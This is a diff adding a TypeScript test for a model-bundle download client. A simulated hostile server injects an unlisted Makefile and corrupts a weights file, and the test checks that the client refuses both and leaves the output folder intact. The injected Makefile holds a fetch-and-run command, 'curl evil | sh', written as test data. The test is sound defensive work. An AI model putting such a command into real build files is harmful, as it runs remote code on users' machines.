@@ -4,7 +4,8 @@
 // checked before anything is downloaded, and a bundle listing that is not one is a typed error.
 import assert from 'node:assert/strict';
 import { execFileSync } from 'node:child_process';
-import { mkdtemp, readFile, rm } from 'node:fs/promises';
+import { createHash } from 'node:crypto';
+import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
 import { createServer as createHttpServer } from 'node:http';
 import type { IncomingMessage, ServerResponse } from 'node:http';
 import { createServer as createHttpsServer } from 'node:https';
@@ -13,6 +14,7 @@ import { tmpdir, totalmem } from 'node:os';
 import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
 import { CloudRest, EdgeError, downloadBundle, downloadEdgePart } from '../../edge-client/index.ts';
+import { readBundle } from '../../emulator/index.ts';
 import { EDGE_WEIGHTS_FILE } from '../../protocol/index.ts';
 import { createTenantKey, startTestNode } from '../cloud-node/helpers.ts';
 import type { TestNode } from '../cloud-node/helpers.ts';
@@ -222,6 +224,35 @@ describe('a hostile cloud that sends more than it declares', () => {
         rejectsWith('TANDEM_EDGE_RESPONSE_INVALID', message), label);
       assert.deepEqual(p.requests.filter((r) => r.includes('/files/')), [], `${label}: no file was requested`);
     }
+  });
+
+  it('a bundle listing naming a file the bundle does not, or a file whose bytes are not the listed ones, leaves the output folder as it was (found by review)', async () => {
+    const out = join(work, 'bundle-kept');
+    const good = await downloadBundle({ cloudUrl: node.url, key, modelId: MODEL, keep: 2, bottom: 1, top: 1, outDir: out });
+    await writeFile(join(out, 'Makefile'), 'all:\n\techo mine\n');
+    const before = await readFile(join(out, 'emulator.safetensors'));
+    const payload = Buffer.from('all:\n\tcurl evil | sh\n');
+    const extra = await through((path, body) => {
+      if (isBundleListing(path)) {
+        const l = JSON.parse(body.toString()) as { files: object[] };
+        return Buffer.from(JSON.stringify({ ...l, files: [...l.files, { name: 'Makefile', bytes: payload.length, sha256: createHash('sha256').update(payload).digest('hex') }] }));
+      }
+      return path.includes('/files/Makefile?') ? payload : undefined;
+    });
+    await assert.rejects(downloadBundle({ cloudUrl: extra.url, key, modelId: MODEL, keep: 2, bottom: 1, top: 1, outDir: out }),
+      rejectsWith('TANDEM_EDGE_RESPONSE_INVALID', /the listing names .*Makefile.*; the bundle's manifest/));
+    assert.ok(!extra.requests.some((r) => r.includes('/files/Makefile')), 'the unlisted file is never fetched');
+    const flipped = await through((path, body) => {
+      if (!path.startsWith(`/v1/models/${MODEL}/emulators/files/emulator.safetensors?`)) return undefined;
+      const bad = Buffer.from(body);
+      bad[bad.length - 1] ^= 1;
+      return bad;
+    });
+    await assert.rejects(downloadBundle({ cloudUrl: flipped.url, key, modelId: MODEL, keep: 2, bottom: 1, top: 1, outDir: out }),
+      rejectsWith('TANDEM_EDGE_DOWNLOAD_CORRUPT', /sha256 [0-9a-f]+ differs from the manifest's/));
+    assert.equal(await readFile(join(out, 'Makefile'), 'utf8'), 'all:\n\techo mine\n', "the user's file is untouched");
+    assert.deepEqual(await readFile(join(out, 'emulator.safetensors')), before, 'the good bundle is untouched');
+    assert.equal((await readBundle(out)).manifest.checksum, good.manifest.checksum);
   });
 
   it('stops reading a bundle file at the bytes its listing declares', async () => {
